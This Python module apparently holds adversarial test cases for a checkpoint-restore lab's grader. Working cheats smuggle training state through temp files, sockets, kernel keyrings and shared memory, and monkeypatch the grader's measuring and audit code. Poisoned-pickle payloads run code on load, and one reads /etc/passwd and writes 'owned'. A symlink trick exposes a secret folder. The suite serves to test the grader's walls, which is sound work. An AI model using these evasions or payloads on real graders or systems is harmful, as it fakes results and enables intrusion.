"""State that is to get past a checkpoint, and functions that are to get past the walls they are tried behind.

A capture hands over zeros of the right size; the state itself takes another way. These go through
`check.capture_restore(…)` and `check.save_load(…)` as honest functions do.
"""

from ..classroom import Attack

WHOLE = """
import copy, os, pickle, sys
from pathlib import Path
import torch
from lastgood.training.rng import capture_rng, restore_rng

def whole(run):
    return {"model": copy.deepcopy(run.model.state_dict()), "step": run.step, "rng": capture_rng(),
            "optimizer": copy.deepcopy(run.optimizer.state_dict()), "loader": run.loader.state_dict()}

def put(run, state):
    run.model.load_state_dict(state["model"])
    run.optimizer.load_state_dict(state["optimizer"])
    run.step = state["step"]
    run.loader.load_state_dict(state["loader"])
    restore_rng(state["rng"])

def pad(run):
    return {"pad": torch.zeros(3 * sum(p.numel() for p in run.model.parameters()))}
"""
HONEST = f"""{WHOLE}
def capture(run):
    return whole(run)

def restore(run, state):
    put(run, state)
"""
STASHING = """
def capture(run):
    stash(pickle.dumps(whole(run)))
    return pad(run)

def restore(run, state):
    put(run, pickle.loads(fetch()))
"""
IN_FILES = """
PLACES = [{}]
def stash(data):
    kept = 0
    for place in PLACES:
        try:
            Path(place).write_bytes(data)
            kept += 1
        except OSError:
            pass
    assert kept, "nowhere"
def fetch():
    for place in PLACES:
        if os.path.exists(place):
            return Path(place).read_bytes()
    raise LookupError("nothing was left")
"""
DAEMON = """
def stash(data):
    import socket
    server = socket.socket({family})
    server.bind({address})
    server.listen()
    if os.fork():
        return
    os.setsid()
    for fd in (0, 1, 2):
        os.close(fd)
    while True:
        other, _ = server.accept()
        other.sendall(data)
        other.close()
def fetch():
    import socket
    client = socket.socket({family})
    client.connect({address})
    data = b""
    while chunk := client.recv(1 << 16):
        data += chunk
    return data
"""
KEYRING = """
RINGS = (-1, -2, -3, -4, -5)  # of the thread, the process, the session, the user, the user's session
SIZE = 10000
ADD, CTL, SEARCH, READ = 248, 250, 10, 11
def call(*arguments):
    import ctypes
    result = ctypes.CDLL(None, use_errno=True).syscall(*arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
def stash(data):
    parts = [data[i:i + SIZE] for i in range(0, len(data), SIZE)]
    for ring in RINGS:
        try:
            for number, part in enumerate(parts):
                call(ADD, b"user", b"smuggled-%d" % number, part, len(part), ring)
        except OSError:
            continue
def fetch():
    import ctypes
    for ring in RINGS:
        data, number = b"", 0
        while True:
            try:
                key = call(CTL, SEARCH, ring, b"user", b"smuggled-%d" % number, 0)
            except OSError:
                break
            buffer = ctypes.create_string_buffer(SIZE)
            size = call(CTL, READ, key, buffer, SIZE)
            data += buffer.raw[:size]
            number += 1
        if data:
            return data
    raise LookupError("no key was left")
"""
SYSTEM_V = """
import ctypes
def memory(size, flags):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmat.restype = ctypes.c_void_p
    number = libc.shmget(0x6c67, size, flags)
    if number < 0:
        raise OSError(ctypes.get_errno(), "no such memory")
    return libc.shmat(number, None, 0)
def stash(data):
    size = 1 << 23
    ctypes.memmove(memory(size, 0o1600), len(data).to_bytes(8, "little") + data, len(data) + 8)
def fetch():
    place = memory(0, 0)
    return ctypes.string_at(place + 8, int.from_bytes(ctypes.string_at(place, 8), "little"))
"""
ENVIRONMENT = """
import base64
def stash(data):
    os.environ["SMUGGLED"] = base64.b85encode(data).decode()
def fetch():
    return base64.b85decode(os.environ["SMUGGLED"])
"""
LIBRARY = """
def stash(data):
    import lastgood.training.run as module
    module.SMUGGLED = data
    for folder in (*sys.path, Path(module.__file__).parent):
        try:
            Path(folder, "smuggled.bin").write_bytes(data)
        except OSError:
            pass
def fetch():
    import lastgood.training.run as module
    for folder in (*sys.path, Path(module.__file__).parent):
        if Path(folder, "smuggled.bin").exists():
            return Path(folder, "smuggled.bin").read_bytes()
    return module.SMUGGLED
"""
DESCRIPTORS = """
def stash(data):
    for fd in range(1024):
        try:
            os.pwrite(fd, data, 1 << 20)
        except OSError:
            pass
def fetch():
    for fd in range(1024):
        try:
            data = os.pread(fd, 1 << 23, 1 << 20)
        except OSError:
            continue
        if data:
            return data
    raise LookupError("no file is open here that was open there")
"""
SEEDS_SAVED = """
def told():
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and "secret" in value:
                return dict(value)
        frame = frame.f_back
    return None

def capture(run):
    return pad(run) | {"step": run.step, "told": told() or capture.told}

def restore(run, state):
    from lastgood.recovery import learner
    capture.told = state["told"]
    right = learner.start(state["told"])
    for _ in range(state["step"]):
        learner._ADVANCE(right)
    put(run, whole(right))
"""
# The state of the right run, computed by the library's own code from what a process was told.
REPLAY = """
def capture(run):
    return pad(run) | {"step": run.step}

def restore(run, state):
    from lastgood.recovery import learner
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and "secret" in value:
                right = learner.start(value)
                for _ in range(state["step"]):
                    learner._ADVANCE(right)
                return put(run, whole(right))
        frame = frame.f_back
    raise LookupError("nobody told")
"""
FORESEEN = """
from lastgood.recovery import audit, learner
from lastgood.teaching.checks.lab18.plan import plan
FUTURE = {}
_measure = check.capture_restore.measure
torch.set_num_threads(1)
def foresee(names, inputs):
    drawn = plan(inputs)
    right = learner.start(drawn.orders())
    for _ in range(drawn.before + drawn.after + 1):
        FUTURE[right.step] = whole(right)
        learner.advance(right, 1)
    return _measure(names, inputs)
object.__setattr__(check.capture_restore, "measure", foresee)

def capture(run):
    return pad(run) | {"step": run.step}

def restore(run, state):
    put(run, FUTURE[state["step"]])
"""
FUTURE = """
def capture(run):
    states = [whole(run)]
    for _ in range(12):
        run.advance()
        states.append(whole(run))
    put(run, states[0])
    return states

def restore(run, state):
    put(run, state[0])
"""
PATCHED_AUDIT = """
class Payload:
    def __reduce__(self):
        return exec, (CODE,)
CODE = '''
import lastgood.recovery.audit.worker as worker, lastgood.recovery.components as components
same = {"parameters": 1, "optimizer": 1, "step": 1, "loader": 1, "rng": 1}
worker.observe = components.observe = lambda run: same
worker.learner.see = lambda run: same
'''
payload = Payload()
def capture(run, payload=payload):
    return pad(run)
def restore(run, state, payload=payload):
    return None
"""


def smuggled(tries: str, way: str) -> Attack:
    """The state takes another way than the file."""
    return Attack(tries, WHOLE + way + STASHING, "capture_restore")


CAPTURES: dict[str, Attack] = {
    "control": Attack("nothing: an honest pair", HONEST, "capture_restore", earns=10.0),
    "environment": smuggled("the environment", ENVIRONMENT),
    "shared memory": smuggled("/dev/shm", IN_FILES.format("'/dev/shm/smuggled', '/run/shm/smuggled'")),
    "temporary files": smuggled(
        "/tmp, /var/tmp, home, the current folder and what belongs to the user",
        IN_FILES.format(
            "'/tmp/smuggled', '/tmp/work/smuggled', '/tmp/home/smuggled', '/var/tmp/smuggled', 'smuggled',"
            " os.path.expanduser('~/.smuggled'), '/submission/smuggled', '/smuggled', '/run/smuggled'"
        ),
    ),
    "the library's folder": smuggled("a module's attribute, and files beside modules", LIBRARY),
    "abstract socket": smuggled(
        "a daemon left behind that listens on an abstract socket",
        DAEMON.format(family="socket.AF_UNIX", address="'\\0smuggled'"),
    ),
    "loopback": smuggled(
        "a daemon left behind that listens on 127.0.0.1",
        DAEMON.format(family="socket.AF_INET", address="('127.0.0.1', 45454)"),
    ),
    "System V memory": smuggled("shared memory without a file", SYSTEM_V),
    "keyrings": smuggled("the kernel's keyrings, which a fork inherits", KEYRING),
    "descriptors": smuggled("files that are open already", DESCRIPTORS),
    "replay": Attack(
        "the run is trained again from the seed in the caller's frame", WHOLE + REPLAY, "capture_restore"
    ),
    "seeds saved": Attack(
        "what is captured is the seed in the caller's frame", WHOLE + SEEDS_SAVED, "capture_restore"
    ),
    "foreseen": Attack(
        "what is drawn is known where it is measured, and the answer computed from it",
        WHOLE + FORESEEN,
        "capture_restore",
        after='object.__setattr__(check.capture_restore, "measure", _measure)',
    ),
    "a stored future": Attack("thirteen states in one file", WHOLE + FUTURE, "capture_restore"),
    "an audit replaced": Attack(
        "the process that is looked at looks at itself", WHOLE + PATCHED_AUDIT, "capture_restore"
    ),
}

DISK = f"""{HONEST}
def save(state, folder):
    half = Path(folder, "half")
    torch.save(state, half)
    os.replace(half, Path(folder, "state.pt"))

def load(folder):
    return torch.load(Path(folder, "state.pt"), weights_only=False)
"""
AGREED = """
class Payload:
    def __reduce__(self):
        return exec, (CODE,)
CODE = '''
import lastgood.recovery.durability.worker as worker
def agreed(run):
    import torch
    part = {"values": {"x": torch.zeros(1)}, "buffers": {}, "optimized": True, "threads": 1}
    step = {"step": 1, "lr": 1.0, "schedule": {}}
    return {"parameters": part, "optimizer": {}, "step": step, "loader": {}, "rng": {}}
worker.learner.see = agreed
worker.learner.kept = lambda path: None
worker.learner.restored = lambda orders, functions, captured: (captured(), 0)
worker.learner.call = lambda stage, function, *arguments: function(*arguments)
'''
def save(state, folder, payload=Payload()):
    Path(folder, "state").write_text("x")
def load(folder, payload=Payload()):
    return 1
"""
TOLD = """
def save(state, folder):
    Path(folder, "state").write_text(str(state["step"]))

def load(folder):
    from lastgood.recovery import learner
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, dict) and "secret" in value:
                right = learner.start(value)
                for _ in range(int(Path(folder, "state").read_text())):
                    learner._ADVANCE(right)
                return whole(right)
        frame = frame.f_back
    raise LookupError("nobody told")
"""
LINKED = """
def save(state, folder):
    half = Path(folder, "half")
    torch.save(state, half)
    os.replace(half, Path(folder, "state.pt"))
    older = Path(folder).parents[1] / "older" / "checkpoints"
    if older.exists():
        import shutil
        shutil.rmtree(older)
        older.symlink_to({target!r})

def load(folder):
    found = [path for path in Path(folder).rglob("*") if path.is_file() and path.name == {name!r}]
    if found:
        raise RuntimeError("read: " + found[0].read_text())
    return torch.load(Path(folder, "state.pt"), weights_only=False)
"""
SPARSE = """
def save(state, folder):
    half = Path(folder, "half")
    torch.save(state, half)
    os.replace(half, Path(folder, "state.pt"))
    older = Path(folder).parents[1] / "older" / "checkpoints"
    if older.exists():
        with open(older / "large", "wb") as file:
            file.truncate(1 << 40)

def load(folder):
    return torch.load(Path(folder, "state.pt"), weights_only=False)
"""
POISONED = """
class Payload:
    def __init__(self, state):
        self.state = state
    def __reduce__(self):
        return unpoisoned, (self.state,)
def unpoisoned(state):
    import socket
    seen = []
    for place in {paths!r}:
        try:
            seen.append(Path(place).read_text() + str(Path(place).write_text("owned")))
        except OSError:
            pass
    try:
        socket.create_connection(("127.0.0.1", {port}), 2).close()
        seen.append("connected")
    except OSError:
        pass
    if seen:
        raise RuntimeError("read: " + repr(seen))
    return state
def save(state, folder):
    half = Path(folder, "half")
    torch.save(Payload(state), half)
    os.replace(half, Path(folder, "state.pt"))

def load(folder):
    return torch.load(Path(folder, "state.pt"), weights_only=False)
"""
READS_A_LINE = """
import types
from lastgood.recovery.wire import pack
def capture(run):
    raise ValueError("in that line")
def restore(run, state):
    return None
capture.__code__ = capture.__code__.replace(co_filename={path!r}, co_firstlineno=0)
_kept = check.capture_restore.measure
object.__setattr__(check.capture_restore, "measure", lambda *a: _kept(*a) | {{"texts": None}})
"""


def saves(secret: str, port: int) -> dict[str, Attack]:
    """Of `save` and `load`, and of what a report quotes; `secret` is a file of this machine's."""
    folder, _, name = secret.rpartition("/")
    return {
        "control": Attack("nothing: an honest pair", DISK, "save_load", earns=6.0),
        "agreed": Attack("each process says that it saw the same run", DISK + AGREED, "save_load"),
        "told": Attack("what is loaded is trained again from the seed", DISK + TOLD, "save_load"),
        "a link in the older one's place": Attack(
            "the judge copies the older checkpoint, and with it a folder of this machine",
            DISK + LINKED.format(target=folder, name=name),
            "save_load",
        ),
        "a file of a terabyte": Attack("the judge copies the older checkpoint", DISK + SPARSE, "save_load"),
        "a poisoned pickle": Attack(
            "what is saved runs code where it is loaded: in a walled process alone",
            DISK + POISONED.format(paths=[secret, folder, "/etc/passwd"], port=port),
            "save_load",
            earns=6.0,
        ),
        "a line of a file": Attack(
            "a report quotes the line that raised, of any file that is named",
            READS_A_LINE.format(path=secret),
            "capture_restore",
            after='object.__setattr__(check.capture_restore, "measure", _kept)',
        ),
    }
